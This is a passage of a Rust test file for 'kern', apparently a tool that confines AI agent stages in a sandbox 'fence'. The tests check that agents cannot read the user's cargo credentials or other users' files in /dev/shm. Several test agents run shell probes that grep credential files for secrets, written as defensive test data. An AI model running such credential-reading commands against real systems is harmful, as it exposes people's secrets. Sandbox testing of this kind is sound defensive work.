         if grep -q SECRET \"$HOME/.cargo/credentials.toml\" 2>/dev/null; then echo credentials READ; else echo credentials hidden; fi; \
         } > cargo.txt";
    let out = p
        .run(&["1", "0"])
        .default_fence()
        .args(["--agent", &plain_agent(&p, implement)])
        .env("HOME", home.path())
        .expect(0);
    assert_eq!(
        p.git(&["show", "HEAD:cargo.txt"]),
        "locks ok\nbin seen\ncredentials hidden\n",
        "{}",
        out.stderr
    );
    assert!(!out.stderr.contains(".package-cache"), "{}", out.stderr);
    for name in [".package-cache", ".global-cache", "registry/index"] {
        assert!(
            !cargo.join(name).exists(),
            "{name} reached the person's ~/.cargo"
        );
    }
}

/// kern lends each stage's init an inotify instance it keeps for the run (the watch of the
/// hidden files): what kern itself does between stages, in the state folder the fence shows
/// the stage, must never come back as a later stage's denied read.
#[test]
fn an_agent_that_reaches_for_nothing_is_named_for_nothing_however_many_stages_a_night_runs() {
    let p = Project::new("- [ ] Task one\n- [ ] Task two\n- [ ] Task three\n- [ ] Task four\n");
    let agent = plain_agent(&p, "echo \"$KERN_STAGE\" >> done.txt");
    let out = p
        .run(&["4", "0"])
        .default_fence()
        .args(["--agent", &agent])
        .expect(0);
    assert_eq!(
        p.git(&["rev-list", "--count", "HEAD"]).trim(),
        "5",
        "{}",
        out.stderr
    );
    let denied: Vec<String> = ["research", "implement", "commit"]
        .iter()
        .flat_map(|by| denied(&p, by))
        .collect();
    assert!(denied.is_empty(), "{denied:?}");
}

/// `/dev/shm` is a temporary folder like `/tmp`: the stage's own, empty, and what it needs
/// there — a repository kept on the RAM disk, a `TMPDIR` there — is bound in. (It was a bare
/// fresh tmpfs, over the work tree: "cannot bind", exit 2.)
#[test]
fn a_repository_and_a_tmpdir_on_dev_shm_are_reached_inside_the_fence_and_others_files_there_are_not()
 {
    let shm = Path::new("/dev/shm");
    if !shm.is_dir() {
        eprintln!("skipped: this machine has no /dev/shm");
        return;
    }
    let p = Project::new_in(shm, "- [ ] Write the note\n");
    let tmpdir = tempfile::tempdir_in(shm).unwrap();
    let others = tempfile::Builder::new()
        .prefix("kern-others-")
        .tempfile_in(shm)
        .unwrap();
    std::fs::write(others.path(), "SECRET\n").unwrap();
    let agent = plain_agent(
        &p,
        &format!(
            "if grep -q SECRET '{}' 2>/dev/null; then echo READ > seen.txt; else echo blocked > seen.txt; fi\n  \
             echo note > \"$TMPDIR/scratch\" && cp \"$TMPDIR/scratch\" note.txt",
            others.path().display()
        ),
    );
    let out = p
        .run(&["1", "0"])
        .default_fence()
        .args(["--agent", &agent])
        .env("TMPDIR", tmpdir.path())
        .expect(0);
    assert_eq!(
        p.git(&["show", "HEAD:seen.txt"]),
        "blocked\n",
        "{}",
        out.stderr
    );
    assert_eq!(p.git(&["show", "HEAD:note.txt"]), "note\n");
    assert_eq!(std::fs::read_to_string(others.path()).unwrap(), "SECRET\n");
}
